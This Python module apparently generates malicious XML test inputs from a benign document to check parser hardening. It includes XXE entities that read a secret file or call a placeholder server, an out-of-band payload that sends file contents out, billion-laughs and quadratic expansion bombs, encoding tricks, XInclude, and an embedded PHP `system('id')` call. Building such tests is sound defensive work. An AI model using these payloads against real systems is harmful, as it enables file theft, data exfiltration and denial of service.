"""XML that is made to harm whoever reads it: put into a document that is good otherwise."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass

_TEN = [f"&l{n - 1};" * 10 for n in range(1, 10)]
LAUGHS = "".join(f'<!ENTITY l{n} "{ten}">' for n, ten in enumerate(_TEN, 1))
DEEP, WIDE = 100_000, 450_000


@dataclass(frozen=True)
class Document:
    """A good document, cut where its root begins and where the root's content begins."""

    root: str
    head: str
    """The root's start tag."""
    rest: str

    @classmethod
    def of(cls, data: bytes) -> Document:
        text = data.decode()
        begin = text.index("<", text.index("?>") + 2) if text.startswith("<?xml") else 0
        end = text.index(">", begin) + 1
        root = text[begin + 1 :].split()[0].split(">")[0]
        return cls(root, text[begin:end], text[end:])

    def whole(self, prologue: str = "", inside: str = "", declaration: str = '<?xml version="1.0"?>') -> str:
        """The document with something before its root, and at the beginning of the root's content."""
        return f"{declaration}{prologue}{self.head}{inside}{self.rest}"

    def typed(self, subset: str, inside: str = "") -> bytes:
        """With a document type of this internal subset."""
        return self.whole(f"<!DOCTYPE {self.root} [{subset}]>", inside).encode()


def poisoned(data: bytes, secret: str, server: str) -> Iterator[tuple[str, bytes]]:
    """Each kind of harm by its name; `secret` is the path of a file, `server` an address, that nobody may look at."""
    good = Document.of(data)
    yield from _types(good, secret, server)
    yield from _entities(good)
    yield from _encodings(good, f"file://{secret}")
    yield from _shapes(good)


def _types(good: Document, secret: str, server: str) -> Iterator[tuple[str, bytes]]:
    file, http = f"file://{secret}", f"http://{server}"
    yield "entity: file", good.typed(f'<!ENTITY x SYSTEM "{file}">', "&x;")
    yield "entity: path", good.typed(f'<!ENTITY x SYSTEM "{secret}">', "&x;")
    yield "entity: http", good.typed(f'<!ENTITY x SYSTEM "{http}/a">', "&x;")
    yield "entity: ftp", good.typed(f'<!ENTITY x SYSTEM "ftp://{server}/a">', "&x;")
    yield "entity: public", good.typed(f'<!ENTITY x PUBLIC "-//x//x" "{http}/b">', "&x;")
    yield (
        "entity: php",
        good.typed(f'<!ENTITY x SYSTEM "php://filter/read=convert.base64-encode/resource={secret}">', "&x;"),
    )
    yield "entity: expect", good.typed('<!ENTITY x SYSTEM "expect://id">', "&x;")
    yield "entity: jar", good.typed(f'<!ENTITY x SYSTEM "jar:{http}/a.jar!/b">', "&x;")
    yield "entity: device", good.typed('<!ENTITY x SYSTEM "file:///dev/zero">', "&x;")
    yield "entity: never used", good.typed(f'<!ENTITY x SYSTEM "{file}">')
    yield "entity: unparsed", good.typed(f'<!NOTATION n SYSTEM "{http}/n"><!ENTITY x SYSTEM "{file}" NDATA n>')
    yield "parameter: http", good.typed(f'<!ENTITY % x SYSTEM "{http}/c"> %x;')
    yield "parameter: file", good.typed(f'<!ENTITY % x SYSTEM "{file}"> %x;')
    yield (
        "parameter: out of band",
        good.typed(f'<!ENTITY % f SYSTEM "{file}"><!ENTITY % e "<!ENTITY &#37; s SYSTEM \'{http}/?%f;\'>"> %e; %s;'),
    )
    yield (
        "parameter: by an error",
        good.typed(f'<!ENTITY % f SYSTEM "{file}"><!ENTITY % e "<!ENTITY &#37; s SYSTEM \'file:///no/%f;\'>"> %e; %s;'),
    )
    yield "type: http", good.whole(f'<!DOCTYPE {good.root} SYSTEM "{http}/d.dtd">').encode()
    yield "type: file", good.whole(f'<!DOCTYPE {good.root} SYSTEM "{file}">').encode()
    yield "type: public", good.whole(f'<!DOCTYPE {good.root} PUBLIC "-//x//x" "{http}/e.dtd">').encode()
    yield "type: bare", good.whole(f"<!DOCTYPE {good.root}>").encode()
    yield "type: empty", good.typed("")
    yield "type: after comments", good.whole(f"<!-- -->\n\n<?x y?><!DOCTYPE {good.root} []>").encode()
    yield "type: another root", good.whole("<!DOCTYPE other []>").encode()
    yield "type: attributes by default", good.typed(f'<!ATTLIST {good.root} more CDATA "given">')
    yield "type: elements", good.typed(f"<!ELEMENT {good.root} ANY>")
    yield "type: small letters", good.whole(f"<!doctype {good.root}>").encode()


def _entities(good: Document) -> Iterator[tuple[str, bytes]]:
    yield "laughs", good.typed('<!ENTITY l0 "haha">' + LAUGHS, "&l9;")
    yield "laughs in an attribute", good.typed('<!ENTITY l0 "haha">' + LAUGHS, '<a b="&l9;"/>')
    yield "laughs that nobody hears", good.typed('<!ENTITY l0 "haha">' + LAUGHS)
    yield (
        "laughs by parameters",
        good.typed('<!ENTITY % p0 "haha">' + LAUGHS.replace("ENTITY l", "ENTITY % p").replace("&l", "&#37;p") + "%p9;"),
    )
    yield "quadratic", good.typed(f'<!ENTITY q "{"q" * 50_000}">', "&q;" * 20_000)
    yield "an entity of itself", good.typed('<!ENTITY a "&b;"><!ENTITY b "&a;">', "&a;")
    yield "an unknown entity", good.whole(inside="&nothing;").encode()


def _encodings(good: Document, file: str) -> Iterator[tuple[str, bytes]]:
    typed = good.whole(f'<!DOCTYPE {good.root} [<!ENTITY x SYSTEM "{file}">]>', "&x;", "")
    for encoding in ("utf-16", "utf-16-le", "utf-16-be", "utf-32", "cp037"):
        declared = f'<?xml version="1.0" encoding="{encoding}"?>'
        yield f"{encoding}, with a type", (declared + typed).encode(encoding)
    plus = "+ADw-!DOCTYPE x+AFs-+ADw-!ENTITY x SYSTEM +ACI-" + file + "+ACI-+AD4-+AF0-+AD4-"
    yield "utf-7, with a type", ('<?xml version="1.0" encoding="UTF-7"?>' + plus + good.head + good.rest).encode()
    yield "utf-16, said to be utf-8", good.whole(declaration='<?xml version="1.0" encoding="utf-8"?>').encode("utf-16")
    yield "no known encoding", good.whole(declaration='<?xml version="1.0" encoding="x-none"?>').encode()


def _shapes(good: Document) -> Iterator[tuple[str, bytes]]:
    yield "deep", good.whole(inside="<a>" * DEEP + "</a>" * DEEP).encode()
    yield "somewhat deep", good.whole(inside="<a>" * 300 + "</a>" * 300).encode()
    yield "wide", good.whole(inside="<a/>" * WIDE).encode()
    yield "long", good.whole(inside="<a>" + "x" * 2_500_000 + "</a>").encode()
    yield "attributes", good.whole(inside="<a " + "".join(f'b{n}="" ' for n in range(300_000)) + "/>").encode()
    yield "an attribute twice", good.whole(inside='<a b="1" b="2"/>').encode()
    yield "a nul", good.whole(inside="<a>\0</a>").encode()
    yield "a control", good.whole(inside="<a>\x01</a>").encode()
    yield "a control by number", good.whole(inside="<a>&#1;</a>").encode()
    yield "overlong", good.whole(inside="<a>@</a>").encode().replace(b"@", b"\xc0\xbc")
    yield "half a pair", good.whole(inside="<a>@</a>").encode().replace(b"@", b"\xed\xa0\x80")
    yield "two roots", good.whole().encode() + b"<b/>"
    yield "cut off", good.whole().encode()[:-5]
    yield "nothing", b""


def strange(data: bytes, secret: str, server: str) -> Iterator[tuple[str, bytes]]:
    """What asks for something from elsewhere without a document type; it may be read, and then means nothing."""
    good = Document.of(data)
    include = '<i:include xmlns:i="http://www.w3.org/2001/XInclude"'
    yield "xinclude: file", good.whole(inside=f'{include} href="file://{secret}" parse="text"/>').encode()
    yield "xinclude: http", good.whole(inside=f'{include} href="http://{server}/i"/>').encode()
    yield (
        "instruction: stylesheet",
        good.whole(f'<?xml-stylesheet type="text/xsl" href="http://{server}/s.xsl"?>').encode(),
    )
    yield "instruction: php", good.whole(inside="<?php system('id'); ?>").encode()
    xsi = f'xmlns:s="http://www.w3.org/2001/XMLSchema-instance" s:schemaLocation="urn:x http://{server}/x.xsd"'
    yield "schema from elsewhere", good.whole(inside=f"<a {xsi}/>").encode()
    yield "base elsewhere", good.whole(inside=f'<a xml:base="http://{server}/"/>').encode()
